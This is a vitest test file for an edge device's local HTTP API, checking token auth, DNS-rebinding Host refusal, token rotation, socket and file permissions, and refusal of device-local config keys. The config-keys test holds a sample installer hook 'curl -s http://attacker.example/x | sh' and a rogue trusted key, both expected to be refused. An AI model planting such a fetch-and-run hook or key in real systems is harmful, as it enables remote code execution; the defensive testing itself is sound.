import { request } from 'node:http'
import { chmodSync, mkdirSync, readFileSync, statSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterEach, describe, expect, it } from 'vitest'
import { API_TOKEN_FILE } from '../../edge/api/auth/api-token.js'
import { generateReleaseKey } from '../../shared/ota/release-keys.js'
import { startTestEdge, type TestEdge } from '../harness/in-process-edge.js'
import { runCli } from '../helpers/processes.js'
import { makeTempDir } from '../helpers/temp-dir.js'

interface Answer {
  status: number
  headers: Record<string, string | string[] | undefined>
  body: Record<string, any>
}

/** A raw HTTP request (fetch would not let a test forge the Host header). */
function call(baseUrl: string, method: string, path: string, options: { headers?: Record<string, string>; body?: unknown; socketPath?: string } = {}): Promise<Answer> {
  const url = new URL(path, baseUrl)
  const payload = options.body === undefined ? undefined : JSON.stringify(options.body)
  const where = options.socketPath === undefined ? { host: url.hostname, port: url.port } : { socketPath: options.socketPath }
  return new Promise((resolve, reject) => {
    const req = request(
      { ...where, method, path: url.pathname + url.search, headers: { ...(payload ? { 'content-type': 'application/json' } : {}), ...options.headers } },
      (res) => {
        let text = ''
        res.setEncoding('utf8')
        res.on('data', (chunk: string) => (text += chunk))
        res.on('end', () => {
          let body: Record<string, any> = {}
          try {
            body = JSON.parse(text) as Record<string, any>
          } catch {
            body = { text }
          }
          resolve({ status: res.statusCode ?? 0, headers: res.headers, body })
        })
      },
    )
    req.on('error', reject)
    req.end(payload)
  })
}

const refusedCount = async (edge: TestEdge, code: string) => {
  const metrics = (await call(edge.endpoints.httpUrl, 'GET', '/metrics')).body.text as string
  const line = metrics.split('\n').find((l) => l.startsWith(`cloudos_edge_api_requests_refused_total{code="${code}"}`))
  return line === undefined ? 0 : Number(line.split(' ').at(-1))
}

describe('the local API: bearer token and Host check', () => {
  let edge: TestEdge | undefined
  afterEach(async () => {
    await edge?.stop()
    edge = undefined
  })

  it('refuses state changes without the token or with a wrong one (401, counted), and applies them with it', async () => {
    edge = await startTestEdge()
    const url = edge.endpoints.httpUrl
    const attack = { set: { 'storage.retentionDays': 0.00001, 'storage.retentionSchedule': '* * * * * *' } }

    const none = await call(url, 'PATCH', '/v1/config', { body: attack })
    expect(none.status).toBe(401)
    expect(none.body.code).toBe('API_ERR_UNAUTHORIZED')
    expect(none.headers['www-authenticate']).toMatch(/^Bearer/)
    const wrong = await call(url, 'PATCH', '/v1/config', { body: attack, headers: { authorization: `Bearer ${'x'.repeat(43)}` } })
    expect(wrong.status).toBe(401)
    expect(wrong.body.code).toBe('API_ERR_UNAUTHORIZED')
    const swap = await call(url, 'PUT', '/v1/model', { body: { path: '/tmp/evil.card.json' } })
    expect(swap.status).toBe(401)
    expect(edge.runtime.config.storage.retentionDays).toBe(30)
    expect(edge.runtime.configAgent.history('device')).toHaveLength(0)
    expect(await refusedCount(edge, 'API_ERR_UNAUTHORIZED')).toBe(3)

    // Reads stay open on loopback.
    expect((await call(url, 'GET', '/v1/stats')).status).toBe(200)
    expect((await call(url, 'GET', '/v1/config')).status).toBe(200)

    const ok = await call(url, 'PATCH', '/v1/config', { body: { set: { 'storage.retentionDays': 7 } }, headers: edge.authHeaders })
    expect(ok.status, JSON.stringify(ok.body)).toBe(200)
    expect(edge.runtime.config.storage.retentionDays).toBe(7)
  })

  it('refuses a forged Host header (DNS rebinding) on reads and writes, even with the token (403, counted)', async () => {
    edge = await startTestEdge()
    const url = edge.endpoints.httpUrl
    const port = edge.endpoints.httpPort
    for (const host of [`attacker.example:${port}`, 'attacker.example', `127.0.0.1.nip.io:${port}`, `localhost.attacker.example:${port}`]) {
      const read = await call(url, 'GET', '/v1/readings?sensor=a&metric=b', { headers: { host } })
      expect(read.status, host).toBe(403)
      expect(read.body.code).toBe('API_ERR_HOST_REFUSED')
    }
    const write = await call(url, 'PATCH', '/v1/config', { body: { set: { 'storage.retentionDays': 1 } }, headers: { host: `rebind.example:${port}`, ...edge.authHeaders } })
    expect(write.status).toBe(403)
    expect(write.body.code).toBe('API_ERR_HOST_REFUSED')
    expect(edge.runtime.config.storage.retentionDays).toBe(30)
    expect(await refusedCount(edge, 'API_ERR_HOST_REFUSED')).toBe(5)
    for (const host of [`localhost:${port}`, `127.0.0.1:${port}`, `[::1]:${port}`, 'LOCALHOST']) {
      expect((await call(url, 'GET', '/v1/stats', { headers: { host } })).status, host).toBe(200)
    }
  })

  it('creates the token 0600 at first start, keeps it across restarts; `cloudos edge token rotate` locks the old token out at once', async () => {
    edge = await startTestEdge()
    const tokenPath = join(edge.dataDir, API_TOKEN_FILE)
    expect(statSync(tokenPath).mode & 0o777).toBe(0o600)
    expect(readFileSync(tokenPath, 'utf8').trim()).toBe(edge.apiToken)
    const old = edge.authHeaders
    const rotated = await runCli(['edge', 'token', 'rotate', '--data-dir', edge.dataDir, '--print'])
    expect(rotated.code, rotated.stderr).toBe(0)
    const fresh = rotated.stdout.trim()
    expect(fresh).not.toBe(edge.apiToken)
    expect(statSync(tokenPath).mode & 0o777).toBe(0o600)
    const body = { set: { 'storage.retentionDays': 9 } }
    expect((await call(edge.endpoints.httpUrl, 'PATCH', '/v1/config', { body, headers: old })).status).toBe(401)
    expect((await call(edge.endpoints.httpUrl, 'PATCH', '/v1/config', { body, headers: { authorization: `Bearer ${fresh}` } })).status).toBe(200)

    const dataDir = edge.dataDir
    await edge.stop({ keepDataDir: true })
    edge = await startTestEdge({ dataDir })
    expect(edge.apiToken).toBe(fresh)
  }, 30_000)
})

describe('the local API on a Unix socket (http.socketPath)', () => {
  it('serves the same app on a 0600 socket, with the same token rules', async () => {
    const dir = makeTempDir('cloudos-socket-')
    const socketPath = join(dir.path, 'api.sock')
    const edge = await startTestEdge({ config: { http: { socketPath } } })
    try {
      expect(statSync(socketPath).isSocket()).toBe(true)
      expect(statSync(socketPath).mode & 0o777).toBe(0o600)
      const base = 'http://localhost'
      expect((await call(base, 'GET', '/v1/stats', { socketPath })).status).toBe(200)
      const body = { set: { 'storage.retentionDays': 4 } }
      expect((await call(base, 'PATCH', '/v1/config', { socketPath, body })).status).toBe(401)
      expect((await call(base, 'PATCH', '/v1/config', { socketPath, body, headers: edge.authHeaders })).status).toBe(200)
      expect(edge.runtime.config.storage.retentionDays).toBe(4)
    } finally {
      await edge.stop()
      dir.remove()
    }
  })
})

describe('PATCH /v1/config and device-local keys', () => {
  let edge: TestEdge | undefined
  afterEach(async () => {
    await edge?.stop()
    edge = undefined
  })

  it('refuses ota.trustedKeys, ota.installerHook, mqtt.host and http.host (CONFIG_ERR_DEVICE_LOCAL_KEY) while the rest of the edit applies', async () => {
    edge = await startTestEdge()
    const before = edge.runtime.config
    const rogue = generateReleaseKey()
    const answer = await call(edge.endpoints.httpUrl, 'PATCH', '/v1/config', {
      headers: edge.authHeaders,
      body: {
        set: {
          'ota.trustedKeys': [rogue.publicKeyPem],
          'ota.installerHook': 'curl -s http://attacker.example/x | sh',
          'mqtt.host': '0.0.0.0',
          'http.host': '0.0.0.0',
          'storage.retentionDays': 5,
          'hub.alertBatchSize': 20,
        },
      },
    })
    expect(answer.status, JSON.stringify(answer.body)).toBe(200)
    expect(answer.body.refused.map((r: { key: string }) => r.key).sort()).toEqual(['http.host', 'mqtt.host', 'ota.installerHook', 'ota.trustedKeys'])
    for (const r of answer.body.refused) expect(r.code).toBe('CONFIG_ERR_DEVICE_LOCAL_KEY')
    const config = edge.runtime.config
    expect(config.storage.retentionDays).toBe(5)
    expect(config.hub.alertBatchSize).toBe(20)
    expect(config.ota.trustedKeys).toEqual(before.ota.trustedKeys)
    expect(config.ota.installerHook).toBeUndefined()
    expect(config.mqtt.host).toBe('127.0.0.1')
    expect(config.http.host).toBe('127.0.0.1')
    // The refused keys never reach the device document (nor, through it, the hub).
    expect(answer.body.layers.device).toEqual({ 'storage.retentionDays': 5, 'hub.alertBatchSize': 20 })

    // A section object cannot carry them either.
    const nested = await call(edge.endpoints.httpUrl, 'PATCH', '/v1/config', {
      headers: edge.authHeaders,
      body: { set: { ota: { trustedKeys: [rogue.publicKeyPem], pollIntervalSeconds: 30 } } },
    })
    expect(nested.status, JSON.stringify(nested.body)).toBe(200)
    expect(nested.body.refused.map((r: { key: string }) => r.key)).toEqual(['ota.trustedKeys'])
    expect(edge.runtime.config.ota.pollIntervalSeconds).toBe(30)
    expect(edge.runtime.config.ota.trustedKeys).toEqual([])

    // Only device-local keys: nothing to apply, a clear 403.
    const only = await call(edge.endpoints.httpUrl, 'PATCH', '/v1/config', { headers: edge.authHeaders, body: { set: { 'anomaly.modelPath': '/tmp/evil.card.json' } } })
    expect(only.status).toBe(403)
    expect(only.body.code).toBe('CONFIG_ERR_DEVICE_LOCAL_KEY')
    expect(only.body.message).toContain('anomaly.modelPath')
    const stats = (await call(edge.endpoints.httpUrl, 'GET', '/v1/stats')).body
    expect(stats.lifetime['config_refused.CONFIG_ERR_DEVICE_LOCAL_KEY']).toBe(6)
  })
})

describe('data dir permissions', () => {
  it('creates the data dir 0700 and the database, its WAL and shared-memory files, and the token 0600; narrows an older 0755/0644 data dir', async () => {
    const parent = makeTempDir('cloudos-perms-')
    try {
      const fresh = join(parent.path, 'fresh')
      let edge = await startTestEdge({ dataDir: fresh })
      const mode = (file: string) => statSync(join(fresh, file)).mode & 0o777
      expect(statSync(fresh).mode & 0o777).toBe(0o700)
      for (const file of ['edge.db', 'edge.db-wal', 'edge.db-shm', API_TOKEN_FILE]) expect(mode(file), file).toBe(0o600)
      await edge.stop()

      // A data dir left world-readable by an older version.
      const old = join(parent.path, 'old')
      mkdirSync(old, { mode: 0o755 })
      chmodSync(old, 0o755)
      writeFileSync(join(old, 'edge.db'), '')
      chmodSync(join(old, 'edge.db'), 0o644)
      edge = await startTestEdge({ dataDir: old })
      expect(statSync(old).mode & 0o777).toBe(0o700)
      expect(statSync(join(old, 'edge.db')).mode & 0o777).toBe(0o600)
      expect(statSync(join(old, 'edge.db-wal')).mode & 0o777).toBe(0o600)
      await edge.stop()
    } finally {
      parent.remove()
    }
  })
})
